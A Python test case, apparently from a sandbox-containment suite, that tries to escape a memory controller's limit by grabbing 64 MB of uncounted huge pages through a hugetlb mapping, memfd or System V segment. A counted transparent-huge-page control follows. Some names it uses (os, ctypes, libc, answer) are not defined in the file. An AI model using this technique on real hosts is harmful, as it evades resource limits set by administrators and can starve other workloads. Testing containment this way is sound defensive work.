"""Keep memory in huge pages.

Technique: pages of the machine's pool of huge pages are not counted by the memory controller, and a memfd, a mapping
    and a System V segment can have them. Where an administrator keeps such a pool (databases, virtual machines), a
    program takes it, uncounted, beyond its limit.
Success: from outside: a peak below the 64 MB it had.
Stopped by: seccomp
Held when: peak_at_least 64 MB; status success
"""
import mmap

SIZE = 64 << 20
MAP_HUGETLB, MFD_HUGETLB, SHM_HUGETLB = 0x40000, 0x4, 0o4000


def attack():
    refusal = None

    def mapping():
        with mmap.mmap(-1, SIZE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_HUGETLB) as pages:
            for start in range(0, SIZE, 4096):
                pages[start] = 1

    def file():
        held = os.memfd_create("own", MFD_HUGETLB)
        os.ftruncate(held, SIZE)
        with mmap.mmap(held, SIZE) as pages:
            for start in range(0, SIZE, 4096):
                pages[start] = 1

    def segment():
        libc.shmat.restype = ctypes.c_void_p
        ctypes.set_errno(0)
        held = libc.shmget(0, SIZE, SHM_HUGETLB | 0o1600)
        if held < 0:
            raise OSError(ctypes.get_errno() or errno.ENOMEM, "shmget")
        ctypes.memset(libc.shmat(held, None, 0), 1, SIZE)
        libc.shmctl(held, 0, None)

    for way in (mapping, file, segment):
        try:
            way()
            print("64 MB of huge pages by", way.__name__)
            return
        except OSError as error:
            refusal = error
    raise refusal


def twin():
    """Transparent huge pages, which are counted, can be asked for."""
    with mmap.mmap(-1, 32 << 20) as pages:
        if hasattr(mmap, "MADV_HUGEPAGE"):
            answer(pages.madvise, mmap.MADV_HUGEPAGE)
        pages[: 32 << 20 : 4096] = b"\1" * (32 << 8)
        assert pages[4096] == 1
